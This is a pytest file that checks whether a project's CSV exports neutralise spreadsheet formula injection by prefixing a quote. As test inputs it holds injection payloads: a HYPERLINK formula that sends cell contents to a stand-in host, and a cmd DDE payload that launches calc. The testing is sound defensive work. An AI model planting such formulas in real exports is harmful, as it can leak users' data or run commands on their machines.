"""CSV injection (issue 12 item 5): no CSV the project writes holds a text cell that a
spreadsheet would run as a formula.  OWASP's rule: a text cell beginning with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading ``'``; numbers stay as they are."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fixtures import io_exports as fx

from supervision import cli
from supervision.metrics import metrics_to_csv

#: OWASP's list, written out here (not imported) so that the test states the rule itself.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+SUM(1,1)", "-2+3", "@SUM(A1)",
        "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", EVIL)
def test_formula_text_gets_a_leading_quote(value: str) -> None:
    from supervision.csvsafe import safe_cell

    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-0.5, -3, 0, 2.25, "C01", "", "a=b", "T-1", None])
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    from supervision.csvsafe import safe_cell

    assert safe_cell(value) == value


def test_writer_neutralises_every_text_cell() -> None:
    from supervision.csvsafe import csv_writer

    buf = io.StringIO()
    csv_writer(buf, lineterminator="\n").writerow(["=1+1", -0.5, "ok"])
    assert buf.getvalue() == "'=1+1,-0.5,ok\n"


def test_metrics_csv_neutralises_ids_keys_and_meta_but_not_numbers() -> None:
    result = {
        "practice": {"alliance": {"srs": {"mean_slope": -0.5}}},
        "therapists": {"=cmd|' /C calc'!A0": {"episodes": 3, "cases": [
            {"episode_id": "E1", "reasons": ["low_alliance"]}]}},
        "meta": {"source": "@export", "window": {"since": "-1"}},
    }
    rows = list(csv.reader(io.StringIO(metrics_to_csv(result))))
    assert ["practice", "", "alliance.srs.mean_slope", "-0.5"] in rows
    assert ["therapist", "'=cmd|' /C calc'!A0", "episodes", "3"] in rows
    assert ["meta", "", "source", "'@export"] in rows
    assert ["meta", "", "window.since", "'-1"] in rows


def test_metrics_command_writes_no_formula_cell(tmp_path: Path, capsys) -> None:
    """Ids beginning with each formula character, through ``supervision metrics --format
    csv``: every text cell that starts with one of them starts with ``'`` instead."""
    cols, rows = fx.flat_rows()
    ids = {"T1": "=T1", "T2": "+T2", "T3": "@T3"}
    ti, ci = cols.index("therapist_id"), cols.index("client_id")
    for r in rows:
        r[ti] = ids[r[ti]]
        r[ci] = "-" + r[ci]
    path = fx.write_csv(tmp_path / "flat.csv", cols, rows)
    out = tmp_path / "m.csv"
    assert cli.main(["metrics", str(path), "--format", "csv", "--out", str(out)]) == 0
    cells = [c for row in csv.reader(out.open(encoding="utf-8")) for c in row]
    assert "'=T1" in cells and "'+T2" in cells and "'@T3" in cells
    bad = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert bad == []


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
